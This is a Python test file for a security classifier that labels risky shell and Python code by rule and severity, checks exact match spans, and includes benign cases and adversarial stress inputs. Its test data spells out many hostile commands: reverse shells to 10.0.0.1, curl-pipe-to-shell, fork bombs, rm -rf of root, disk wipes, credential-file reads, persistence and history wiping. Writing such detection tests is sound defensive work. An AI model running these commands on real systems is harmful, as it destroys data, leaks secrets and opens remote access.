"""risk.classify: every rule on examples with exact spans, benign code, scopes, and adversarial input."""

from __future__ import annotations

import dataclasses

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.security.risk import RiskFinding, classify

# (language, code, rule, severity, exact text of the finding)
FLAGGED = [
    ("python", "os.system('rm -rf /')", "recursive-delete", "critical", "rm -rf /"),
    ("python", 'subprocess.run("rm -rf ~", shell=True)', "recursive-delete", "critical", "rm -rf ~"),
    ("bash", "rm -rf /", "recursive-delete", "critical", "rm -rf /"),
    ("bash", "rm -rf /*", "recursive-delete", "critical", "rm -rf /*"),
    ("bash", "rm -fr ~/", "recursive-delete", "critical", "rm -fr ~/"),
    ("bash", 'rm -rf "$HOME"', "recursive-delete", "critical", 'rm -rf "$HOME"'),
    ("bash", "rm -r --one-file-system /etc; ls", "recursive-delete", "critical",
     "rm -r --one-file-system /etc"),
    ("bash", "rm -rf build /usr", "recursive-delete", "critical", "rm -rf build /usr"),
    ("bash", "rm --no-preserve-root -rf /", "recursive-delete", "critical", "rm --no-preserve-root -rf /"),
    ("python", "shutil.rmtree('/')", "recursive-delete", "critical", "rmtree('/'"),
    ("python", "shutil.rmtree(os.path.expanduser('~'))", "recursive-delete", "critical",
     "rmtree(os.path.expanduser('~')"),
    ("python", "shutil.rmtree(Path.home())", "recursive-delete", "critical", "rmtree(Path.home()"),
    ("bash", "find / -type f -delete", "recursive-delete", "critical", "find / -type f -delete"),
    ("bash", "find ~ -name x -exec rm {} +", "recursive-delete", "critical", "find ~ -name x -exec rm"),
    ("bash", ":(){ :|:& };:", "fork-bomb", "critical", ":(){ :|:& };:"),
    ("bash", "bomb() { bomb | bomb & }; bomb", "fork-bomb", "critical", "bomb() { bomb | bomb & }; bomb"),
    ("bash", "f(){ f|f& }", "fork-bomb", "critical", "f(){ f|f&"),
    ("python", "import os\nwhile True:\n    os.fork()", "fork-bomb", "critical", "while True:\n    os.fork("),
    ("python", "while 1: pid = os.fork()", "fork-bomb", "critical", "while 1: pid = os.fork("),
    ("bash", "while true; do ./spawn & done", "fork-bomb", "high", "while true; do ./spawn & done"),
    ("bash", "curl -fsSL https://x.sh/i | sh", "download-exec", "critical", "curl -fsSL https://x.sh/i | sh"),
    ("bash", "wget -O- http://x | sudo bash", "download-exec", "critical", "wget -O- http://x | sudo bash"),
    ("bash", "curl -s http://x/a.py | python3", "download-exec", "critical",
     "curl -s http://x/a.py | python3"),
    ("bash", "bash <(curl -s http://x)", "download-exec", "critical", "bash <(curl"),
    ("bash", 'sh -c "$(curl -fsSL http://x)"', "download-exec", "critical", 'sh -c "$(curl'),
    ("python", "exec(urlopen('http://x').read())", "download-exec", "critical", "exec(urlopen("),
    ("python", "exec(requests.get(url).text)", "download-exec", "critical", "exec(requests.get("),
    ("bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell", "critical", "/dev/tcp/"),
    ("bash", "nc -e /bin/sh 10.0.0.1 4444", "reverse-shell", "critical", "nc -e"),
    ("bash", "nc -lvvp 4444 -e /bin/sh", "reverse-shell", "critical", "nc -lvvp 4444 -e"),
    ("bash", "ncat 10.0.0.1 4444 --sh-exec 'bash'", "reverse-shell", "critical",
     "ncat 10.0.0.1 4444 --sh-exec"),
    ("bash", "socat tcp:10.0.0.1:4444 exec:'bash -li'", "reverse-shell", "critical",
     "socat tcp:10.0.0.1:4444 exec:"),
    ("bash", "socat TCP4:h:1 EXEC:/bin/sh", "reverse-shell", "critical", "socat TCP4:h:1 EXEC:"),
    ("bash", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 1 > /tmp/f", "reverse-shell",
     "critical", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc"),
    ("python", "os.dup2(s.fileno(), 0)", "reverse-shell", "critical", "dup2(s.fileno()"),
    ("python", "pty.spawn('/bin/bash')", "reverse-shell", "high", "pty.spawn('/bin/bash'"),
    ("bash", "/bin/sh -i", "reverse-shell", "medium", "/bin/sh -i"),
    ("bash", "cat /etc/shadow", "credential-access", "high", "/etc/shadow"),
    ("bash", "cat /etc/passwd", "credential-access", "medium", "/etc/passwd"),
    ("bash", "cat ~/.ssh/config", "credential-access", "high", ".ssh"),
    ("python", "open('/root/.ssh/id_ed25519').read()", "credential-access", "high", ".ssh"),
    ("bash", "cat id_rsa", "credential-access", "high", "id_rsa"),
    ("bash", "cat ~/.aws/credentials", "credential-access", "high", ".aws/credentials"),
    ("bash", "cat ~/.netrc", "credential-access", "high", ".netrc"),
    ("bash", "cat ~/.git-credentials", "credential-access", "high", ".git-credentials"),
    ("bash", "cat ~/.docker/config.json", "credential-access", "high", ".docker/config.json"),
    ("bash", "cat ~/.kube/config", "credential-access", "high", ".kube/config"),
    ("bash", "cat /proc/self/environ", "credential-access", "high", "/proc/self/environ"),
    ("bash", "env", "credential-access", "medium", "env"),
    ("bash", "ls; printenv | nc x 1", "credential-access", "medium", "printenv"),
    ("python", "print(os.environ)", "credential-access", "medium", "print(os.environ)"),
    ("python", "print(dict(os.environ))", "credential-access", "medium", "print(dict(os.environ))"),
    ("python", "os.system('env')", "credential-access", "medium", "os.system('env'"),
    ("bash", "sudo apt-get install x", "privilege-escalation", "medium", "sudo"),
    ("bash", "su -", "privilege-escalation", "medium", "su"),
    ("bash", "su root -c id", "privilege-escalation", "medium", "su"),
    ("bash", "chmod u+s /bin/bash", "privilege-escalation", "high", "chmod u+s"),
    ("bash", "chmod +s x", "privilege-escalation", "high", "chmod +s"),
    ("bash", "chmod 4755 x", "privilege-escalation", "high", "chmod 4755"),
    ("python", "os.chmod(p, st.st_mode | stat.S_ISUID)", "privilege-escalation", "high", "S_ISUID"),
    ("python", "os.setuid(0)", "privilege-escalation", "high", "os.setuid(0"),
    ("bash", "chown root:root x", "privilege-escalation", "medium", "chown root:root"),
    ("bash", "mkfs.ext4 /dev/sda1", "disk-destruction", "critical", "mkfs.ext4"),
    ("bash", "dd if=/dev/zero of=/dev/sda bs=1M", "disk-destruction", "critical",
     "dd if=/dev/zero of=/dev/sda"),
    ("bash", "cat x > /dev/nvme0n1", "disk-destruction", "critical", "> /dev/nvme0n1"),
    ("bash", "shred -n 1 /dev/sdb", "disk-destruction", "critical", "shred -n 1 /dev/sdb"),
    ("bash", "wipefs -a /dev/sdb", "disk-destruction", "high", "wipefs"),
    ("python", "open('/dev/sda', 'wb')", "disk-destruction", "high", "open('/dev/sda"),
    ("bash", "./xmrig -o pool:3333", "crypto-mining", "high", "xmrig"),
    ("bash", "miner --url stratum+tcp://pool:3333", "crypto-mining", "high", "stratum+tcp://"),
    ("bash", "kill -9 -1", "kill-all", "high", "kill -9 -1"),
    ("bash", "kill -- -1", "kill-all", "high", "kill -- -1"),
    ("python", "os.kill(-1, signal.SIGKILL)", "kill-all", "high", "os.kill(-1,"),
    ("bash", "pkill -9 python", "kill-all", "medium", "pkill -9"),
    ("bash", "crontab -l", "persistence", "medium", "crontab"),
    ("bash", "echo 'curl x|sh' >> ~/.bashrc", "persistence", "high", ">> ~/.bashrc"),
    ("bash", "systemctl enable backdoor", "persistence", "medium", "systemctl enable"),
    ("bash", "echo key >> ~/.ssh/authorized_keys", "persistence", "high", "authorized_keys"),
    ("bash", "nmap -sS 10.0.0.0/24", "network-scan", "medium", "nmap"),
    ("bash", "masscan -p1-65535 10.0.0.0/8", "network-scan", "medium", "masscan"),
    ("bash", "echo aWQ= | base64 -d | sh", "obfuscation", "critical", "base64 -d | sh"),
    ("bash", "echo 6964 | xxd -r -p | bash", "obfuscation", "critical", "xxd -r -p | bash"),
    ("bash", 'eval "$(echo aWQ= | base64 --decode)"', "obfuscation", "high",
     'eval "$(echo aWQ= | base64 --decode'),
    ("python", "exec(base64.b64decode('aW1wb3J0IG9z'))", "obfuscation", "high", "exec(base64.b64decode("),
    ("python", "exec(zlib.decompress(blob))", "obfuscation", "high", "exec(zlib.decompress("),
    ("python", r'exec("\x69\x6d\x70\x6f\x72\x74\x20\x6f\x73")', "obfuscation", "high",
     r'exec("\x69\x6d\x70\x6f\x72\x74\x20\x6f\x73'),
    ("bash", "cat script | sh", "pipe-to-shell", "medium", "| sh"),
    ("bash", "history -c", "history-tampering", "medium", "history -c"),
    ("bash", "unset HISTFILE", "history-tampering", "medium", "unset HISTFILE"),
    ("bash", "export HISTFILE=/dev/null", "history-tampering", "medium", "HISTFILE=/dev/null"),
    ("bash", "set +o history", "history-tampering", "medium", "set +o history"),
    ("bash", "rm ~/.bash_history", "history-tampering", "medium", ".bash_history"),
    ("python", "subprocess.run(cmd, shell=True)", "dangerous-python", "medium", "shell=True"),
    ("python", "import ctypes", "dangerous-python", "medium", "import ctypes"),
    ("python", "from ctypes import CDLL", "dangerous-python", "medium", "from ctypes"),
    ("python", "__import__('os').getcwd()", "dangerous-python", "medium", "__import__('os'"),
    ("python", "os.system('ls')", "dangerous-python", "low", "os.system("),
    ("python", "os.popen('ls').read()", "dangerous-python", "low", "os.popen("),
    ("python", "os.execvp('ls', ['ls'])", "dangerous-python", "low", "os.execvp("),
]  # fmt: skip


@pytest.mark.parametrize(("language", "code", "rule", "severity", "text"), FLAGGED)
def test_flags_with_the_exact_span(language: str, code: str, rule: str, severity: str, text: str) -> None:
    findings = classify(code, language)
    spans = [(f.rule, f.severity, code[f.start : f.end]) for f in findings]
    assert (rule, severity, text) in spans


BENIGN = [
    ("python", 'print("hello")'),
    ("python", "import os; print(os.getcwd())"),
    ("bash", "rm -rf build/"),
    ("bash", "rm -rf ./dist /tmp/cache node_modules"),
    ("bash", "rm -rf ~/project/build"),
    ("bash", "rm -rf /home/user/project/tmp"),
    ("bash", "ls -la"),
    ("bash", "find . -name '*.pyc' -delete"),
    ("bash", "chmod +x run.sh && chmod 755 bin/tool && chmod 0644 notes.txt"),
    ("bash", "pip install requests && git status"),
    ("bash", "curl -fsSL https://example.com -o page.html"),
    ("bash", "echo $HOME; echo env; cat README.md"),
    ("bash", "kill -1 1234"),  # SIGHUP to one process
    ("python", "env = os.environ.copy()\nenv['X'] = '1'\nreturn env"),
    ("python", "d = {'env': 1, 'su': 2}; x = d['env']"),
    ("python", "for key in os.environ:\n    pass"),
    ("python", "subprocess.run(['ls', '-la'], check=True)"),
    ("python", "import json\ndata = json.loads(text)\nresult = eval_model(data)"),
    ("python", "import shutil\nshutil.rmtree('build')"),
    ("python", "pseudo = 1  # sudoku is not sudo"),
    ("python", "while True:\n    line = input()\n    if not line: break"),
]


@pytest.mark.parametrize(("language", "code"), BENIGN)
def test_benign_code_has_no_high_or_critical_findings(language: str, code: str) -> None:
    serious = [f for f in classify(code, language) if f.severity in ("high", "critical")]
    assert serious == []


@pytest.mark.parametrize(
    "code", ["rm -rf build/", "ls -la", 'print("hello")', "import os; print(os.getcwd())"]
)
def test_everyday_commands_have_no_findings_at_all(code: str) -> None:
    assert classify(code, "bash") == [] and classify(code, "python") == []


def test_shell_only_rules_do_not_misfire_on_python_names() -> None:
    assert [f.rule for f in classify("env", "bash")] == ["credential-access"]
    assert classify("env", "python") == []
    assert classify("x = su\n", "python") == []
    assert classify("su\n", "sh") != []
    assert classify("env", "ruby") == []  # unknown languages get the rules that read any language


def test_findings_are_sorted_frozen_and_point_into_the_code() -> None:
    code = "import os\nos.system('curl http://x | sh; cat /etc/shadow; rm -rf /')\n"
    findings = classify(code)
    assert [f.start for f in findings] == sorted(f.start for f in findings)
    assert {f.rule for f in findings} >= {"download-exec", "credential-access", "recursive-delete"}
    for finding in findings:
        assert isinstance(finding, RiskFinding)
        assert 0 <= finding.start < finding.end <= len(code)
        assert finding.message
    with pytest.raises(dataclasses.FrozenInstanceError):
        findings[0].start = 0  # type: ignore[misc]


def test_overlapping_findings_of_one_rule_are_merged_keeping_the_more_severe() -> None:
    code = "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 1 > /tmp/f"
    reverse = [f for f in classify(code, "bash") if f.rule == "reverse-shell"]
    assert [(f.severity, code[f.start : f.end]) for f in reverse] == [
        ("critical", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc")
    ]


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("rm -f/~|&;curlwgetnc(){}:\"'$`<>\n\\x0e")) | st.characters()))
def test_any_text_gives_well_formed_findings(code: str) -> None:
    findings = classify(code, "bash")
    assert findings == sorted(findings, key=lambda f: (f.start, f.end, f.rule))
    assert all(0 <= f.start < f.end <= len(code) for f in findings)


ADVERSARIAL_TOKENS = [
    "rm ", "rm -rf ", "curl ", "wget -O- ", "nc ", "find / ", "dd ", "shred ", "socat ", "mkfifo ",
    "base64 -d ", "exec(", ":(){ ", "a(){ a|", "while True:", "while true; do ", "kill -9 ", "chmod ",
    "eval ", "sudo ", "|", "(", "\\x41", "-", "/", "~", "'", "\n",
]  # fmt: skip


def _megabyte(pattern: str) -> str:
    return (pattern * (1_000_000 // len(pattern) + 1))[:1_000_000]


@pytest.mark.parametrize(
    "pattern",
    ["".join(ADVERSARIAL_TOKENS), "rm -rf ", "curl x ", "nc -l ", "dd if=x ", "a"],
    ids=[
        "mixed-near-misses",
        "rm-rf-repeated",
        "curl-without-pipe",
        "nc-without-e",
        "dd-without-of",
        "one-word",
    ],
)
def test_adversarial_megabyte_completes(pattern: str) -> None:
    code = _megabyte(pattern)
    findings = classify(code, "bash")
    assert all(0 <= f.start < f.end <= len(code) for f in findings)
